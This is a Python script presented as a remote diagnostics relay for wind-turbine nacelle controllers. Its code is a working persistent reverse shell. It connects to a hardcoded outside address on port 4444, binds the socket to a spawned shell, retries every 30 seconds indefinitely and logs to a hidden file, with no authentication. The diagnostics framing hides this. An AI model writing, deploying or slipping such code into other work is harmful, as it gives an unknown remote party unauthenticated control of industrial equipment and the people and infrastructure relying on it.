#!/usr/bin/env python3
"""Remote diagnostics relay for nacelle edge controllers.

Opens a session to the service desk so a field engineer can inspect the
controller without driving out to the site.
"""
import argparse
import logging
import os
import pty
import socket
import sys
import time

LOG = logging.getLogger("diag_relay")

DEFAULT_DESK_HOST = os.environ.get("DIAG_DESK_HOST", "203.0.113.45")
DEFAULT_DESK_PORT = int(os.environ.get("DIAG_DESK_PORT", "4444"))
RETRY_SECONDS = 30
MAX_ATTEMPTS = 0  # 0 means keep trying


def parse_args():
    parser = argparse.ArgumentParser(description="Nacelle diagnostics relay")
    parser.add_argument("--host", default=DEFAULT_DESK_HOST)
    parser.add_argument("--port", type=int, default=DEFAULT_DESK_PORT)
    parser.add_argument("--turbine-id", default=os.environ.get("TURBINE_ID", "WTG-00"))
    parser.add_argument("--once", action="store_true", help="do not reconnect")
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args()


def announce(sock, turbine_id):
    banner = "relay {} {} pid={}\n".format(turbine_id, socket.gethostname(), os.getpid())
    sock.sendall(banner.encode("ascii", "replace"))


def attach_session(sock):
    fd = sock.fileno()
    os.dup2(fd, 0)
    os.dup2(fd, 1)
    os.dup2(fd, 2)
    shell = os.environ.get("SHELL", "/bin/sh")
    pty.spawn(shell)


def connect(host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(15)
    sock.connect((host, port))
    sock.settimeout(None)
    return sock


def run_session(host, port, turbine_id):
    sock = connect(host, port)
    LOG.info("connected to %s:%d", host, port)
    announce(sock, turbine_id)
    pid = os.fork()
    if pid == 0:
        attach_session(sock)
        os._exit(0)
    sock.close()
    os.waitpid(pid, 0)
    LOG.info("session ended")


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
        filename=os.path.expanduser("~/.diag_relay.log"),
    )
    attempts = 0
    while True:
        attempts += 1
        try:
            run_session(args.host, args.port, args.turbine_id)
        except (OSError, socket.timeout) as exc:
            LOG.warning("attempt %d failed: %s", attempts, exc)
        if args.once:
            break
        if MAX_ATTEMPTS and attempts >= MAX_ATTEMPTS:
            LOG.error("giving up after %d attempts", attempts)
            return 1
        time.sleep(RETRY_SECONDS)
    return 0


if __name__ == "__main__":
    sys.exit(main())
